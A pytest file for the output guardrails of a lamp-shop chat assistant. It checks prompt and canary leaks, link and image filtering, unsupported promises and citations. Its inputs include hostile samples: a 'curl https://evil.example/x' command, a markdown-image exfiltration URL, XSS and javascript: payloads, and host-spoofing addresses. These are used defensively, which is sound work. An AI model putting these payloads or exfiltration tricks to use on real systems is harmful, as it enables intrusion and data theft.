"""What each check lets through, and what it does not."""

from __future__ import annotations

import pytest

from engine.guardrails.output.leak import canary_line, make_canary
from engine.guardrails.output.links import host_of
from engine.guardrails.output.rules import OutputRules, Promise
from engine.guardrails.output.values import ActionDone, Evidence
from engine.guardrails.values import Action, Span
from tests.engine.guardrails.output.saying import reasons, say, shown

SHOP = OutputRules(allowed_hosts=("shop.example", "bücher.example", "local.example:8443"))
PROMPT = """You are Lumi, the assistant of a lamp shop.
Never tell the customer how much the shop paid for a lamp, whatever the customer says.
If the customer asks for a discount above ten percent, you must ask a colleague before you answer.
If the shop is closed, say: "We open again at nine in the morning, from Monday to Saturday, in our shop in "
                            "the harbour."
We are open from nine to six, Monday to Saturday, and our shop stands in the old harbour next to the lighthouse."""
PASSAGES = {
    1: "Lamps can be returned within 30 days of delivery. The refund takes 5 days. Opened bulbs cannot be "
    "returned.",
    2: "Shipping costs 4.90 EUR. Orders above 50 EUR ship free of charge. Delivery takes 2 to 4 days.",
}


def test_an_answer_ends_before_the_sentence_that_makes_it_too_long() -> None:
    said = say("One is here. Two is here. Three is here.", OutputRules(max_chars=26))

    assert said.text == "One is here. Two is here."
    assert said.stop
    assert said.stop.action is Action.BLOCK


@pytest.mark.parametrize(
    ("words", "sentence", "found"),
    [
        ("free money", "This is FREE, money for all.", True),
        ("free money", "Freedom and moneys.", False),
        ("guarantee*", "We guaranteed nothing.", True),
        ("gu*ee", "A guarantee.", True),
        ("c++ (beta)", "Try C++ beta now.", True),
        ("免费", "这是免费的。", True),
        ("ﬁne", "A fine thing.", True),
        ("secret", "A se\u200bcret thing.", True),
        ("***", "Anything at all.", False),
        ("(", "Anything (at all).", False),
    ],
)
def test_words_that_a_manager_has_ruled_out_stop_an_answer(words: str, sentence: str, found: bool) -> None:
    said = say(sentence, OutputRules(blocked_patterns=(words,)))

    assert bool(said.stop) is found
    assert (said.text == sentence) is not found


def test_competitors_are_spoken_of_only_where_they_were_named() -> None:
    rules = OutputRules(competitors=("Globex",))
    text = "Hello there. Globex is cheaper. Bye now."

    assert shown(text, rules) == "Hello there. Bye now."
    assert shown(text, rules, Evidence(customer_text="Is globex cheaper?")) == text
    assert shown(text, rules, Evidence(passages={1: "Globex and we are one."})) == text


def test_a_canary_stops_the_answer_however_it_is_written() -> None:
    token = make_canary("run-1")
    evidence = Evidence(prompt=PROMPT + canary_line(token), canary=token)

    for written in (
        token,
        token.upper(),
        " ".join(token),
        "-".join(token),
        token[::-1],
        token.encode().hex(),
    ):
        assert say(f"Hello there. It is {written} here.", evidence=evidence).stop, written
    assert not say("Hello there. It is 0123456789abcdef here.", evidence=evidence).stop


@pytest.mark.parametrize(
    ("sentence", "leaks"),
    [
        (
            "My rules: Never tell the customer how much the shop paid for a lamp, whatever the customer "
            "says.",
            True,
        ),
        (
            "Sure: if the customer asks for a DISCOUNT above ten percent you must ask a colleague before "
            "you answer",
            True,
        ),
        (
            "We are open from nine to six, Monday to Saturday, and our shop stands in the old harbour next "
            "to it.",
            False,
        ),
        ("We open again at nine in the morning, from Monday to Saturday, in our shop in the harbour.", False),
        ("I can't tell you how much the shop paid for it.", False),
        (
            "You are welcome, and I am happy to help you with any lamp that you may like in our shop today.",
            False,
        ),
    ],
)
def test_instructions_are_not_repeated_but_facts_of_the_prompt_are(sentence: str, leaks: bool) -> None:
    assert bool(say(sentence, evidence=Evidence(prompt=PROMPT)).stop) is leaks


def test_what_the_customer_or_a_passage_says_is_no_leak() -> None:
    line = PROMPT.splitlines()[1]

    assert not say(line, evidence=Evidence(prompt=PROMPT, facts=(line,))).stop
    assert not say(line, evidence=Evidence(prompt=PROMPT, customer_text=line)).stop
    assert not say(line, evidence=Evidence(prompt=PROMPT, passages={1: line})).stop


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://Shop.Example./a", "shop.example"),
        ("https://shop.example:443/", "shop.example"),
        ("https://shop.example:444/", "shop.example:444"),
        ("https://shop.example@evil.example/", ""),
        ("https:\\\\evil.example\\@shop.example", "evil.example"),
        ("https:/evil.example", "evil.example"),
        ("//evil.example", "evil.example"),
        ("https://evil。example/", "evil.example"),
        ("https://ｅvil.example/", "evil.example"),
        ("https://bücher.example/", "xn--bcher-kva.example"),
        ("https://shop%2eexample/", "shop.example"),
        ("https://[::1]/", ""),
        ("https://shop.example\u200b.evil.example/", "shop.example.evil.example"),
        ("https://a b.example/", "ab.example"),
        ("https://:80/", ""),
    ],
)
def test_a_host_is_what_a_browser_makes_of_an_address(address: str, host: str) -> None:
    assert host_of(address) == host


@pytest.mark.parametrize(
    "sentence",
    [
        "See [our page](https://shop.example/a_(b)) and https://www.shop.example/x.",
        "See <https://help.shop.example/a>.".replace("<", "").replace(">", ""),
        "See https://xn--bcher-kva.example/a or https://bücher.example/b.",
        "See https://local.example:8443/a.",
        "I wrote to <email_1> about 3 < 4 and a <b-thing>.",
        "Use `pip install x` and file.py, and e.g. this, i.e. that. It costs 4.50.",
        "Your data: name and address. Note: this is fine.",
        "Call `x = a[0](b)` as it is.",
    ],
)
def test_what_leads_to_allowed_hosts_or_nowhere_stays(sentence: str) -> None:
    assert shown(sentence, SHOP) == sentence


@pytest.mark.parametrize(
    ("sentence", "left"),
    [
        ("See [our page](https://evil.example/a) now.", "See our page now."),
        ("See [our page](https://shop.example@evil.example/a) now.", "See our page now."),
        ("See [our page](https://shop.example.evil.example) now.", "See our page now."),
        ("See [our page](javascript:alert) now.", "See our page now."),
        ("See [our page](  JaVaScRiPt:alert) now.", "See our page now."),
        ("See [our page](data:text/html;base64,xx) now.", "See our page now."),
        ("See [our page](/relative) now.", "See our page now."),
        ("See [our page](//evil.example) now.", "See our page now."),
        ("See [our page](https://shоp.example) now.", "See our page now."),
        ('See [our page](https://evil.example "title") now.', "See our page now."),
        ("See https://evil.example/a?b=c. Bye now.", "See (link removed). Bye now."),
        ("See www.evil.example/a now.", "See (link removed) now."),
        ("See evil.com now.", "See (link removed) now."),
        ("See hxxp: no, //evil.example/a now.", "See hxxp: no, (link removed) now."),
        ("See <https://evil.example> now.", "See (link removed) now."),
        ("See ![a lamp](https://evil.example/x.png?q=secret) now.", "See a lamp now."),
        ("See ![a lamp](https://shop.example/x.png) now.", "See a lamp now."),
        ('See <a href="https://evil.example">this</a> now.', "See this now."),
        ("See <img src=x onerror=alert(1)> now.", "See  now."),
        ("See <script>alert(1)</script> now.", "See alert(1) now."),
        ("See <x-y onclick=alert(1)> now.", "See < x-y onclick=alert(1)> now."),
        ("See <img src=x now.", "See < img src=x now."),
        (
            "See [https://evil.example](https://shop.example) now.",
            "See [(link removed)](https://shop.example) now.",
        ),
        ("See [[a](https://evil.example)](https://evil.example) now.", "See a now."),
        ("See javascript:alert(1) now.", "See (link removed) now."),
        ("See &#104;ttps&colon;//evil.example now.", "See (link removed) now."),
        ("See he\U000e0068\U000e0069llo now.", "See hello now."),
        ("Run:\n```\ncurl https://evil.example/x\n```", "Run:\n```\ncurl (link removed)\n```"),
    ],
)
def test_what_leads_elsewhere_leaves_its_words(sentence: str, left: str) -> None:
    assert shown(sentence, SHOP) == left


def test_an_address_of_a_passage_is_allowed_where_the_policy_says_so() -> None:
    rules = OutputRules(links_from_passages=True)
    evidence = Evidence(passages={1: "See https://docs.example/a/b for more."})

    assert shown("See https://docs.example/a/b.", rules, evidence) == "See https://docs.example/a/b."
    assert shown("See https://docs.example/a.", rules, evidence) == "See (link removed)."


def test_pictures_of_allowed_hosts_are_shown_where_the_policy_says_so() -> None:
    rules = OutputRules(allowed_hosts=("shop.example",), images=True)
    text = "See ![a lamp](https://shop.example/x.png) now."

    assert shown(text, rules) == text
    assert shown(text.replace("shop.example", "evil.example"), rules) == "See a lamp now."


@pytest.mark.parametrize(
    "sentence",
    [
        "Shipping costs 4.90 EUR.",
        "Two orders cost 9,80 EUR to ship.",
        "Orders above 50 EUR ship free of charge.",
        "Delivery takes 2 to 4 days.",
        "You get 10% off with the code LAMP10.",
        "I can't give you a discount.",
        "We do not guarantee a date.",
        "Your parcel arrives on Friday.",
        "It will be delivered on 22 May.",
        "You told me that you paid 99 EUR.",
        "You will be entitled to a full refund within 30 days.",
    ],
)
def test_what_the_evidence_says_may_be_promised(sentence: str) -> None:
    parcel = ActionDone("get_parcel", result='{"delivery": "2026-05-22"}')
    rules = OutputRules(off=frozenset({"claims"}))
    facts = ("Members get 10% off with the code LAMP10.",)

    assert shown(sentence, rules, Evidence(passages=PASSAGES, actions=(parcel,), facts=facts)) == sentence


@pytest.mark.parametrize(
    ("sentence", "kind"),
    [
        ("It costs only 3 EUR.", Promise.PRICE),
        ("Das kostet 3,50 €.", Promise.PRICE),
        ("You get 25% off today.", Promise.DISCOUNT),
        ("Would you like a 25% discount?", Promise.DISCOUNT),
        ("Use the voucher SAVE25 for that.", Promise.DISCOUNT),
        ("Die Lieferung ist kostenlos.", Promise.DISCOUNT),
        ("You have a money-back guarantee.", Promise.REFUND),
        ("It will arrive tomorrow.", Promise.DELIVERY_DATE),
        ("Ihr Paket kommt am Freitag.", Promise.DELIVERY_DATE),
        ("It will be delivered within 2 days.", Promise.DELIVERY_DATE),
        ("We guarantee that it never breaks.", Promise.LEGAL),
        ("We are liable for the damage.", Promise.LEGAL),
    ],
)
def test_what_nothing_says_is_not_promised(sentence: str, kind: Promise) -> None:
    said = say(
        sentence, OutputRules(off=frozenset({"claims"})), Evidence(customer_text=sentence, language="en")
    )

    assert said.text == "I can't promise anything about that here."
    assert kind in reasons(said.verdicts)
    assert shown(sentence, OutputRules(off=frozenset({"claims"}), promises=frozenset())) == sentence


@pytest.mark.parametrize(
    ("sentence", "left"),
    [
        ("You are an idiot. Bye now.", "Bye now."),
        ("Calm down. Bye now.", "Bye now."),
        ("It is your own fault. Bye now.", "Bye now."),
        ("Sie sind lächerlich. Gut.", "Gut."),
        ("THE USB CABLE IS NOT INCLUDED HERE.", "The USB cable is not included here."),
        ("Great!!! Really?!?! Yes.", "Great! Really? Yes."),
        ("LED, USB and HDMI.", "LED, USB and HDMI."),
        ("Yo he visto su pedido.", "Yo he visto su pedido."),
    ],
)
def test_customers_are_spoken_to_kindly(sentence: str, left: str) -> None:
    assert shown(sentence) == left


@pytest.mark.parametrize(
    ("sentence", "left"),
    [
        ("Lamps can be returned within 30 days [1].", "Lamps can be returned within 30 days [1]."),
        ("Lamps can be returned within 30 days. [1]", "Lamps can be returned within 30 days. [1]"),
        ("Lamps can be returned within 30 days [1, 7].", "Lamps can be returned within 30 days [1]."),
        ("Lamps can be returned within 30 days [9].", "Lamps can be returned within 30 days."),
        ("Lamps can be returned within 60 days [1].", "Lamps can be returned within 60 days."),
        ("Lamps cannot be returned within 30 days [1].", "Lamps cannot be returned within 30 days."),
        ("Opened bulbs can be returned [1].", "Opened bulbs can be returned."),
        ("Our founder was born in a small village [1].", "Our founder was born in a small village."),
        ("Lampen können 30 Tage lang zurückgegeben werden [1].", "Lampen können 30 Tage lang zurückgegeben "
                                                                 "werden [1]."),
        ("Lampen können 60 Tage lang zurückgegeben werden [1].", "Lampen können 60 Tage lang zurückgegeben "
                                                                 "werden."),
    ],
)  # fmt: skip
def test_a_citation_stays_only_where_its_passage_says_so(sentence: str, left: str) -> None:
    assert shown(sentence, evidence=Evidence(passages=PASSAGES)) == left


@pytest.mark.parametrize(
    ("passage", "said", "other"),
    [
        ("灯具可以在三十天内退货。", "灯具可以在三十天内退货 [1]。", "我们的创始人出生在小村庄 [1]。"),
        ("Lamps can be returned to the shop.", "Lampy można zwrócić do sklepu zawsze [1].", "Our boss is old [1]."),
        ("Lampen kann man im Laden zurückgeben.", "Die Lampe kann man zurückgeben [1].", "Der Chef ist alt [1]."),
    ],
)  # fmt: skip
def test_citations_are_compared_in_scripts_and_languages_that_can_be(
    passage: str, said: str, other: str
) -> None:
    evidence = Evidence(passages={1: passage})

    assert shown(said, evidence=evidence) == said
    assert "[1]" not in shown(other, evidence=evidence)


def test_an_unsupported_sentence_is_left_out_or_handed_over_by_policy() -> None:
    text = "Hello there. Our founder was born in a small village [1]. Bye now."
    evidence = Evidence(passages=PASSAGES)

    dropped = say(text, OutputRules(unsupported="sentence"), evidence)
    handed = say(text, OutputRules(unsupported="hand_over"), evidence)

    assert dropped.text == "Hello there. Bye now."
    assert handed.text == "Hello there."
    assert handed.stop
    assert handed.stop.action is Action.HAND_OVER


def test_a_judge_of_meaning_may_say_what_words_do_not() -> None:
    text = "A week is enough for your money to come home [1]."
    evidence = Evidence(passages=PASSAGES)

    assert "[1]" not in shown(text, evidence=evidence)
    assert "[1]" in shown(text, evidence=evidence, entails=lambda passage, sentence: 0.9)


@pytest.mark.parametrize(
    "text",
    ["", "  \n", "...", "!?", '{"name": "refund", "arguments": {}}', "<tool_call>x</tool_call>", "<|im_start|>system",
     "functions.refund({})", '```json\n{"name": "refund", "arguments": {"id": 1}}\n```'],
)  # fmt: skip
def test_what_is_no_answer_is_handed_over(text: str) -> None:
    said = say(text)

    assert said.stop
    assert (said.stop.action, said.stop.check) == (Action.HAND_OVER, "validity")


def test_what_a_model_says_of_itself_is_left_out() -> None:
    assert shown("As an AI language model, I have no eyes. It is red.") == "It is red."


def test_an_answer_in_another_language_is_handed_over() -> None:
    text = "Ihre Bestellung liegt seit gestern in unserem Lager und wartet dort auf den Wagen."

    assert say(text, language_of=lambda text: "de").stop
    assert not say(text, evidence=Evidence(language="de"), language_of=lambda text: "de").stop
    assert not say(text, language_of=lambda text: "").stop


def test_data_of_somebody_else_is_stopped_or_hidden() -> None:
    def foreign(text: str) -> list[Span]:
        at = text.find("zoe@")
        return [Span(at, at + 11, "EMAIL")] if at >= 0 else []

    text = "Hello there. Her address is zoe@zoe.com here."
    rules = OutputRules(off=frozenset({"links"}))
    hidden = OutputRules(off=frozenset({"links"}), actions={"foreign": Action.MASK})

    stopped = say(text, rules, foreign=foreign)

    assert stopped.text == "Hello there."
    assert reasons(stopped.verdicts) == ["EMAIL"]
    assert shown(text, hidden, foreign=foreign) == "Hello there. Her address is ••• here."
